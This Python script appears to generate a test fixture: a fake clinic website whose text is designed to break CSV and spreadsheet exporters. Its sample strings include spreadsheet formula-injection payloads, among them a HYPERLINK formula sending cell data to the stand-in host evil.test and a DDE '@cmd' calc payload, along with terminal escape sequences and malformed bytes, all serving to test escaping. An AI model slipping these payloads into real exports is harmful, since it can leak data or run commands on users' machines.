#!/usr/bin/env python3
"""Write a clinic site whose text is built to break CSV and spreadsheets.

    gen_csv_web.py OUTDIR

Makes OUTDIR/csv-spa.test/: pages whose title, practitioners and claim
sentences carry quotes, commas, line breaks, NUL and other control bytes,
terminal escapes, spreadsheet formula prefixes (= + - @ tab CR), invalid
UTF-8 and Unicode line separators, and a page whose URL holds a comma and
quotes. Prints the number of bytes written. Standard library only."""
import os
import sys

FORMULAS = [
    b'=1+2 We offer Botox, "fillers", and more.',
    b'+SUM(A1:A9) We offer PRP, and Dr. Ana Ruiz, MD, performs it.',
    b"@cmd|' /C calc'!A0 We offer HydraFacial,\x00 today only.",
    b'-2+3 We offer microneedling with \x1b[31mred\x1b[0m text and \xff\xfe bad bytes.',
    b'\tWe offer chemical peels; line one\rline two\r\nline three.',
    b'=HYPERLINK("http://evil.test/?"&A1,"Click") We offer dermaplaning.',
    b'"Quoted" We offer laser hair removal, with ""doubled"" quotes, commas, and semicolons;',
    b'We offer IPL\xc2\x9b with a C1 control, a DEL\x7f and a line\xe2\x80\xa8separator.',
    b'Bell\x07 We offer tattoo removal\x08\x08 with backspaces and a form\x0cfeed.',
]


def page(title, body, links=()):
    nav = b"".join(b'<li><a href="%s">%s</a></li>' % (h, t) for h, t in links)
    return (b'<!DOCTYPE html><html><head><meta charset="utf-8"><title>' + title +
            b'</title></head><body><nav><ul>' + nav + b'</ul></nav><main>' + body +
            b'</main></body></html>\n')


def main():
    out = os.path.join(sys.argv[1], "csv-spa.test")
    os.makedirs(out, exist_ok=True)
    total = 0
    links = [(b"/team.html", b"Team"), (b"/a,b%22c'd.html", b"Odd URL")]
    pages = {
        "index.html": page(b'=HYPERLINK("http://evil.test","Spa"), "Glow"\x01 Spa',
                           b"".join(b"<p>%s</p>" % f for f in FORMULAS) +
                           b"<p>1200 Congress Ave, Austin, TX 78701</p>", links),
        "team.html": page(b"Team",
                          b'<div class="card"><h3>Ana Ruiz, MD, FAAD</h3>'
                          b'<p>Ana is a board-certified dermatologist, "the best", in Austin.</p></div>'
                          b'<div class="card"><h3>Zo\xc3\xab M\xc3\xbcller-O\'Neil, RN</h3>'
                          b'<p>Zo\xc3\xab is a registered nurse\x1b]2;pwned\x07 and injector.</p></div>',
                          links),
        "a,b\"c'd.html": page(b"Odd, \"URL\"",
                              b"<p>-cmd We offer Kybella, said the page at an odd URL.</p>", links),
    }
    for name, body in pages.items():
        with open(os.path.join(out, name), "wb") as f:
            f.write(body)
        total += len(body)
    print(total)


if __name__ == "__main__":
    main()
